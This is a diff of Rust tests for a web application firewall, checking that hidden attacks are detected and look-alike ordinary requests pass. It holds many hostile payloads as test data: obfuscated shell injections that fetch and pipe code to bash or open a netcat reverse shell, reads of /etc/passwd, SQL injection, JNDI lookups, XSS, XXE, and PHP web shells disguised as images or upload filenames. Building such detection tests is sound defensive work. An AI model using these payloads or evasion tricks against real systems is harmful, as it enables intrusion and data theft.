@@ -1,11 +1,15 @@
 //! Attacks that hide: behind an ordinary value, in long names, within other values, in files, in headers. And ordinary
 //! requests that look similar.
 
+mod contents;
+mod files;
+
 use weir_waf::inspection::Verdict;
 
 use crate::send::{Sent, judged, view};
 
 const SQL: &str = "1' UNION SELECT password FROM users-- x";
+
 /// The same with escapes of JSON.
 const ESCAPED: &str = r"1\u0027 \u0055NION \u0053ELECT password \u0046ROM users-- x";
 
@@ -113,6 +117,63 @@ fn commands_are_found_behind_any_value_and_separator() {
 }
 
 #[test]
+fn commands_are_found_whose_names_a_shell_puts_together() {
+    let attacks = [
+        "c''url http://e/x",
+        "8.8.8.8;c''url http://e/x",
+        "8.8.8.8;c\"\"url -o /var/www/s.php http://e/s",
+        "8.8.8.8;cu\\rl http://e/x",
+        "8.8.8.8|w\\get http://e/x -O-|b''ash",
+        "8.8.8.8;w\\hoami",
+        "8.8.8.8;'id'",
+        "8.8.8.8;\"i\"d",
+        "8.8.8.8;\\id",
+        "8.8.8.8&&un''ame -a",
+        "8.8.8.8;n''c 1.2.3.4 4444 -e /b''in/s''h",
+        "$(c''url http://e/x)",
+        "`c''url http://e/x`",
+        "8.8.8.8&who^ami",
+        "8.8.8.8&\"curl\" http://e/x",
+        "8.8.8.8;cu$@rl http://e/x",
+        "8.8.8.8;/b??/cat /etc/p?sswd",
+        "8.8.8.8;/???/c?rl http://e/x",
+        "8.8.8.8;/bin/[c]at /home/x",
+        "8.8.8.8;X=curl;$X http://e/x",
+        "8.8.8.8;a=who;${a}ami",
+        "8.8.8.8;bash<<<id",
+        "8.8.8.8;eval \"$(printf cu)rl x\"",
+    ];
+    check(named(attacks, field), true);
+    check(named(attacks, value), true);
+    check(
+        named(attacks, |text| {
+            json(&format!("{{\"host\":{}}}", serde_json(&text.replace('\n', " "))))
+        }),
+        true,
+    );
+    check(
+        named(
+            [
+                "O'Brien; don't; can't",
+                "Rock 'n' Roll; \"cat\" food & 'dog' food",
+                "nr;\"id\";\"name\"\n1;\"2\";\"ls\"",
+                "he said: \"ls\" & more",
+                "C:\\bin\\cat; C:\\temp\\new",
+                "a & \\textbf{x} \\\\ b & \\cite{y}",
+                "(\\d+)|\\w+|[^;]*",
+                "x^2 & y^2; z^2",
+                "$5 & $6; US$10",
+                "what? (who?) *note* [see a/b/c?]",
+                "it's; 'tis the season",
+                "src/**/*.rs; /a/*/b",
+            ],
+            field,
+        ),
+        false,
+    );
+}
+
+#[test]
 fn lookups_are_found_however_long_their_names_are() {
     let key = |bytes: usize| format!("${{${{{}:-j}}ndi:ldap://e/a}}", "a".repeat(bytes));
     let texts = [
@@ -189,6 +250,43 @@ fn attacks_within_values_are_found() {
     );
 }
 
+#[test]
+fn json_is_found_wherever_it_stands() {
+    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
+    let mut deep = object.clone();
+    for depth in 2..=8 {
+        deep = format!("{{\"k\":{}}}", serde_json(&deep));
+        let sent = [("json", json(&deep)), ("field", field(&deep)), ("value", value(&deep))];
+        check(sent.map(|(name, sent)| (format!("{name} {depth}"), sent)), true);
+    }
+    let encoded: String = object.bytes().map(|byte| format!("%{byte:02x}")).collect();
+    let twice = encoded.replace('%', "%25");
+    let named = |name: &str| Sent::form("/page", &[(name, b"1")]);
+    check(
+        [
+            ("name", named(&object)),
+            ("name of an element", named(&format!("a[{object}]"))),
+            ("name in the query", Sent::query("/page", &[(&object, b"1")])),
+            ("cookie", header("Cookie", &format!("a={encoded}"))),
+            ("cookie, encoded twice", header("Cookie", &format!("a={twice}"))),
+            ("referrer", header("Referer", &format!("https://a.example/?x={encoded}"))),
+            ("no-break space", field(&format!("\u{a0}{object}"))),
+        ]
+        .map(|(name, sent)| (name.to_owned(), sent)),
+        true,
+    );
+    check(
+        [
+            ("name", named("items[0][name]")),
+            ("quoted name", named("a[\"b\"]")),
+            ("braces", named("{a}")),
+            ("referrer", header("Referer", "https://a.example/?x=%7B%22a%22%3A%22b%5Cn%22%7D")),
+        ]
+        .map(|(name, sent)| (name.to_owned(), sent)),
+        false,
+    );
+}
+
 /// A text as a string of JSON.
 fn serde_json(text: &str) -> String {
     format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
@@ -217,74 +315,6 @@ fn values_within_values_keep_the_name_of_the_outer_value() {
     assert_eq!(of(&paths[0]), Verdict::Pass);
     assert_ne!(of(&paths[1]), Verdict::Pass);
     paths.iter().for_each(|path| std::fs::remove_file(path).expect("the file"));
-}
-
-#[test]
-fn attacks_in_files_and_their_names_are_found() {
-    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
-    let photo =
-        [b"\xff\xd8\xff\xe0".to_vec(), vec![0xaa; 200_000], b"<?php echo 1;".to_vec()].concat();
-    let mut cases = vec![];
-    let mut add = |disposition: &str, media_type: &str, content: &[u8]| {
-        let name = format!("{disposition} {media_type} {}", content.len());
-        cases.push((name, part(disposition, media_type, content)));
-    };
-    for media_type in
-        ["application/json", "application/octet-stream", "", "application/vnd.api+json"]
-    {
-        add("name=\"meta\"; filename=\"blob\"", media_type, object.as_bytes());
-    }
-    add("name=\"meta\"; filename=\"a.png\"", "application/json", object.as_bytes());
-    add("name=\"meta\"; filename=\"blob\"", "text/plain", SQL.as_bytes());
-    add("name=\"meta\"; filename=\"blob\"", "text/xml", format!("<a>{SQL}</a>").as_bytes());
-    add(
-        "name=\"f\"; filename=\"a.xml\"",
-        "text/xml",
-        b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
-    );
-    for (name, content) in [
-        ("x.png", &b"<?php system($_GET['c']); ?>"[..]),
-        ("x.gif", b"GIF89a;\n<?php system($_GET['c']); ?>"),
-        ("x.jpg", b"\xff\xd8<?=`$_GET[0]`?>\xff\xd9"),
-        ("x.jpg", &photo),
-        ("x.jpg", b"\xff\xd8<%@ page import=\"java.util.*\" %>"),
-        ("x", b"GIF89a<?php system(1); ?>"),
-        ("x.html", b"<script>alert(1)</script>"),
-        ("x.png", b" <html><script>alert(1)</script></html>"),
-        ("x.html", b"<p>a</p><img src=x onerror=alert(1)>"),
-        (
-            "x.svg",
-            b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"f()\"/>",
-        ),
-        ("x.svg", b"<svg><a href=\"javascript:alert(1)\">x</a></svg>"),
-        ("x.xhtml", b"<html><script>alert(1)</script></html>"),
-    ] {
-        add(&format!("name=\"f\"; filename=\"{name}\""), "", content);
-    }
-    for name in [
-        SQL,
-        "<img src=x onerror=alert(1)>.png",
-        "a.png;curl http://evil.example|sh",
-        "$(id).png",
-        "{{7*7}}.png",
-        "${jndi:ldap://e/a}.png",
-        "shell.php::$DATA",
-        "shell.php:x",
-        "shell.asp;.jpg",
-        "shell.php.",
-        "shell.php%00.png",
-        "shell.php/",
-        "shell.pHp5",
-        "shell.php.jpg",
-        "web.config",
-        "shell.php:$i30:$INDEX_ALLOCATION",
-        "shell.shtml",
-    ] {
-        add(&format!("name=\"f\"; filename=\"{name}\""), "", b"x");
-    }
-    add("name=\"f\"; filename=\"x.png\"; filename*=utf-8''shell.php", "", b"x");
-    add("name=\"f\"; filename*=utf-8''a.png", "", format!("\x01{SQL}").as_bytes());
-    check(cases, true);
 }
 
 #[test]
@@ -419,34 +449,6 @@ fn ordinary_requests_that_look_similar_pass() {
         .map(|(name, value)| (format!("{name}: {value}"), header(name, value))),
         false,
     );
-}
-
-#[test]
-fn ordinary_files_pass() {
-    let noise: Vec<u8> = (0..50_000u32).map(|it| (it.wrapping_mul(7_919) >> 3) as u8).collect();
-    let form = "multipart/form-data; boundary=B";
-    let quoted = "multipart/form-data; boundary=\"B\"";
-    let data: Vec<_> = (0..2_000).map(|id| format!("{{\"id\":{id},\"name\":\"n{id}\"}}")).collect();
-    let data = format!("[{}]", data.join(","));
-    let icon = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:#f00}</style><path class=\"a\" d=\"M0 0h24z\"/></svg>";
-    let image = b"\x89PNG\r\n\x1a\n<?xpacket begin='\xef\xbb\xbf' id='W5M0'?><x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta><?xpacket end='w'?>";
-    let cases = [
-        part_and(quoted, "name=a", "", b"x", "\r\n"),
-        part_and(form, "name=a", "", b"x", "\r\n\r\n"),
-        part_and(form, "name=a", "", b"x", ""),
-        part("name=f; filename=x.png; filename*=utf-8''x.png", "", b"x"),
-        part("name=\"f\"; filename*=UTF-8''na%C3%AFve.png; filename=\"na_ve.png\"", "", b"x"),
-        part("name=\"f\"; filename*=utf-8''na%C3%AFve.png", "image/png", &noise),
-        part("name=\"f\"; filename=\"a.jpg\"", "image/jpeg", &noise),
-        part("name=\"f\"; filename=\"data.json\"", "application/json", data.as_bytes()),
-        part("name=\"f\"; filename=\"README.md\"", "text/markdown", b"```php\n<?php echo 1;\n```"),
-        part("name=\"f\"; filename=\"a.svg\"", "image/svg+xml", icon),
-        part("name=\"f\"; filename=\"a.png\"", "image/png", image),
-        part("name=\"f\"; filename=\"O'Brien - CV (final).pdf\"", "", b"x"),
-        part("name=\"f\"; filename=\"Tom & Jerry; part 2 | id.mp4\"", "", b"x"),
-        part("name=\"f\"; filename=\"my.php-tutorial.pdf\"", "", b"x"),
-    ];
-    check(cases.into_iter().enumerate().map(|(at, sent)| (at.to_string(), sent)), false);
 }
 
 #[test]
